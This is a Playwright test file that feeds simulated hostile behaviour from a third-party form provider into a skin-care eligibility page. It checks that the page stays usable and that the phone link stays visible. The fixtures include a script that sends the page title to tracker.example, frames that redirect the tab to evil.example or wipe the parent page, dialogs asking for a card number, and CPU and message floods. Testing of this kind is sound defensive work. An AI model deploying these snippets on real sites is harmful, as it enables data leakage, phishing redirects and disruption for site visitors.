// The form provider misbehaves: its script and its frame do what they should not, and the page stays usable with the phone in sight.
import type { Page } from '@playwright/test'
import { expect, hydrated, open, test } from './fixtures.ts'

const ASSESSMENT = '/acne-skin-care-eligibility'
const SCRIPT = '**/f/public/javascript/embed-hush-form.js'
const FRAME = '**/hostile-frame'

const showFrame = `document.querySelectorAll('[data-secure-form]').forEach((place) => {
  const frame = document.createElement('iframe')
  frame.src = new URL('/hostile-frame', document.currentScript?.src ?? here).href
  place.append(frame)
})`

/** Answers for the provider: its script, and the page in its frame. */
async function provider(page: Page, script: string, frame = ''): Promise<void> {
  await page.route(SCRIPT, (route) =>
    route.fulfill({ contentType: 'text/javascript', body: `{ const here = document.currentScript.src\n${script} }` }),
  )
  await page.route(FRAME, (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<!doctype html><title>Form</title><p>Form</p><script>${frame}</script>`,
    }),
  )
}

/** The phone and the form's own page are there to be used, the page answers, and the way out leads on with nothing left behind. */
async function expectUsable(page: Page): Promise<void> {
  const main = page.getByRole('main')
  await expect(main.locator('a[href^="tel:"]:visible').first()).toBeVisible()
  await expect(page).toHaveURL(ASSESSMENT)
  await expect(main.getByRole('heading', { level: 1 })).toBeVisible()
  await page.getByRole('banner').getByRole('link', { name: 'Contact Us' }).click()
  await expect(page).toHaveURL('/contact')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  await hydrated(page)
  await expect(page.locator('iframe')).toHaveCount(0)
}

const scripts: [what: string, script: string, said: RegExp[]][] = [
  ['throws', 'throw new Error("provider")', [/^page error: provider/]],
  ['is no script', '<html>We are down</html>', [/^page error: /]],
  ['does nothing', '', []],
  [
    'throws in every callback',
    'addEventListener("resize", () => { throw new Error("provider") }); setInterval(() => { throw new Error("provider") }, 20)',
    [/^page error: provider/],
  ],
  [
    'rejects without end',
    'for (let i = 0; i < 200; i++) Promise.reject(new Error("provider"))',
    [/^page error: provider/],
  ],
  ['keeps the page busy for two seconds', 'const end = Date.now() + 2000; while (Date.now() < end);', []],
  [
    'floods the page with messages',
    'for (let i = 0; i < 20000; i++) postMessage({ type: "secure-form-height", height: i }, "*")',
    [],
  ],
  ['stores what it can', 'try { localStorage.x = 1; localStorage.removeItem("x") } catch {}', []],
  [
    'adds inline scripts and styles',
    'const s = document.createElement("script"); s.textContent = "window.injected = true"; document.head.append(s); document.body.setAttribute("style", "display: none")',
    [/Content Security Policy/],
  ],
  [
    'calls home',
    'fetch("https://tracker.example/?" + document.title).catch(() => {}); new Image().src = "https://tracker.example/p.gif"',
    [/Content Security Policy/, /tracker\.example/],
  ],
]

for (const [what, script, said] of scripts) {
  test(`the script ${what}`, async ({ page, noise }) => {
    noise.expect(...said)
    await provider(page, script)
    await open(page, ASSESSMENT)
    await page.waitForTimeout(300)
    await expectUsable(page)
  })
}

test('the script rewrites the page: the phone stays, and the way out leads to a page with nothing of it', async ({
  page,
  noise,
}) => {
  noise.expect(/^console error: .*(?:removeChild|insertBefore)/s)
  await provider(page, 'document.querySelector("main").innerHTML = "<h1>Pay here</h1>"')
  await open(page, ASSESSMENT)
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Pay here')
  await expect(page.locator('a[href^="tel:"]:visible').first()).toBeVisible()
  await page.getByRole('banner').getByRole('link', { name: 'Contact Us' }).click()
  await expect(page).toHaveURL('/contact')
  // For a moment the error screen may stand beside the provider's words, until the page is loaded afresh.
  await expect(page.getByText('Pay here')).toHaveCount(0)
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(/Call, fax/)
})

const frames: [what: string, frame: string, said: RegExp[]][] = [
  ['sends a height without end', 'parent.postMessage({ type: "secure-form-height", height: 1e9 }, "*")', []],
  [
    'sends heights that are none',
    'for (const height of [-1, NaN, Infinity, "9e9", {}, null]) parent.postMessage({ type: "secure-form-height", height }, "*")',
    [],
  ],
  [
    'floods the page with messages',
    'setInterval(() => { for (let i = 0; i < 100; i++) parent.postMessage({ type: "secure-form-height", height: 300 + i }, "*") }, 20)',
    [],
  ],
  // The page answers meanwhile: it has a process of its own (hosting/policy/headers.ts, Origin-Agent-Cluster).
  [
    'is busy for ten seconds',
    'setTimeout(() => { const end = Date.now() + 10000; while (Date.now() < end); }, 100)',
    [],
  ],
  [
    'leads the whole tab elsewhere',
    'try { top.location = "https://evil.example/" } catch {} ; setTimeout(() => { try { top.location.href = "https://evil.example/" } catch {} }, 100)',
    // Chromium has a rule of its own against this, which did not hold on every machine: the frame's sandbox must.
    [/navigation of the top-level window is sandboxed/],
  ],
  [
    'reaches for the page around it',
    'try { top.document.body.innerHTML = "" } catch {} ; try { parent.history.go(-1) } catch {}',
    [],
  ],
  [
    'asks with dialogs',
    'setTimeout(() => { alert("Pay here"); confirm("Sure?"); prompt("Card number") }, 50)',
    [/dialog|alert|confirm|prompt/i],
  ],
]

for (const [what, frame, said] of frames) {
  test(`the frame ${what}`, async ({ page, noise }) => {
    noise.expect(...said)
    await provider(page, showFrame, frame)
    await open(page, ASSESSMENT)
    await page.waitForTimeout(500)
    const box = await page.locator('main iframe').boundingBox()
    expect(box?.height ?? 0, 'Never a page without an end').toBeLessThanOrEqual(6_000)
    await expectUsable(page)
  })
}

test('a message from another origin, or another window of the right one, moves nothing', async ({ page }) => {
  await provider(page, showFrame)
  await open(page, ASSESSMENT)
  const frame = page.locator('main iframe')
  await expect(frame).toBeVisible()
  const before = (await frame.boundingBox())?.height
  await page.evaluate(() => {
    for (const origin of [location.origin, 'https://evil.example'])
      dispatchEvent(new MessageEvent('message', { origin, data: { type: 'secure-form-height', height: 4_000 } }))
    postMessage({ type: 'secure-form-height', height: 4_000 }, '*')
  })
  await page.waitForTimeout(100)
  expect((await frame.boundingBox())?.height).toBe(before)
})

test('the script never answers: after eight seconds the page says so, with its own page and the phone', async ({
  page,
}) => {
  await page.clock.install()
  await page.route(SCRIPT, () => {})
  await open(page, ASSESSMENT)
  await page.clock.runFor(9_000)
  await expect(page.locator('[data-state="late"]')).toBeVisible()
  await expectUsable(page)
})

for (const status of [404, 500, 503]) {
  test(`the provider answers ${status}: the form says so at once, with another try, its own page and the phone`, async ({
    page,
    noise,
  }) => {
    noise.expect(/Failed to load resource/)
    await page.route(SCRIPT, (route) => route.fulfill({ status, body: 'down' }))
    await open(page, ASSESSMENT)
    await expect(page.locator('[data-state="failed"]').getByRole('button')).toBeVisible()
    await expectUsable(page)
  })
}
